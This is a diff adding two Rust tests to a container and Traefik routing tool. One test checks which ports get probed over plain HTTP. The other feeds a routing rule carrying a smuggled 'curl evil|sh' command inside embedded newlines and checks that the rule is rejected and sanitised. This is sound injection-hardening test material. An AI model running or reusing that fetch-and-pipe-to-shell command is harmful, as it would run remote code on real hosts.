@@ -10,6 +10,7 @@ use std::collections::BTreeMap;
 use serde_json::Value;
 use stacktui::model::container::{Container, Health, Port, RunState};
 use stacktui::model::route::matcher::Syntax;
+use stacktui::model::route::probe::Probe;
 use stacktui::model::route::{self, Fault, Route, Seen, Source, Sources, Told, ToldRouter};
 use stacktui::model::{HostId, Key};
 
@@ -525,5 +526,66 @@ fn names_that_nothing_bears_are_told() {
             Some(short),
             "{found:?}"
         );
+    }
+}
+
+#[test]
+fn only_http_in_clear_text_is_asked_for_a_page() {
+    let mut container = container(&serde_json::json!({
+        "container": {"exposed_ports": []},
+        "labels": {
+            "traefik.tcp.routers.db.rule": "HostSNI(`db.example`)",
+            "traefik.tcp.routers.db.entrypoints": "db",
+            "traefik.tcp.routers.db.tls": "true",
+            "traefik.tcp.services.db.loadbalancer.server.port": "5432",
+        },
+    }));
+    for port in [8080, 8443] {
+        container.ports.push(Port {
+            private: port,
+            public: Some(port),
+            protocol: "tcp".to_owned(),
+            ..Port::default()
+        });
+    }
+    let (proxy, seen) = traefik(
+        &serde_json::json!({"entrypoints": {"db": ":5432"}}),
+        "traefik:v3.1",
+    );
+    let seen = BTreeMap::from([(proxy.key.clone(), seen)]);
+    let found = route::all(Sources {
+        containers: &[&proxy, &container],
+        seen: &seen,
+        docker_host: HERE,
+    });
+    let probe = |title: &str| {
+        let route = found.iter().find(|route| route.title().contains(title));
+        let route = route.unwrap_or_else(|| panic!("{title} in {found:?}"));
+        Probe::of(route, &container)
+    };
+    assert_eq!(probe("db.example"), None, "a database");
+    assert!(!probe(":8080").unwrap().tls);
+    assert!(
+        probe(":8443").unwrap().tls,
+        "no clear text to a port of TLS"
+    );
+}
+
+#[test]
+fn no_control_character_of_a_rule_gets_into_an_address() {
+    for rule in [
+        "Host(\"shop.example\\ncurl evil|sh\\n\")",
+        "Host(`shop.example`) && PathPrefix(\"/a\\tb\")",
+    ] {
+        let mut bench = Bench::new();
+        bench
+            .shop()
+            .labels
+            .insert("traefik.http.routers.shop.rule".to_owned(), rule.to_owned());
+        let found = bench.routes();
+        assert_eq!(found[0].fault.as_ref().unwrap().short(), "bad rule");
+        assert_eq!(found[0].open(), [] as [&str; 0]);
+        let told = [found[0].title(), &found[0].fault.as_ref().unwrap().words()].concat();
+        assert!(!told.contains(char::is_control), "{told:?}");
     }
 }
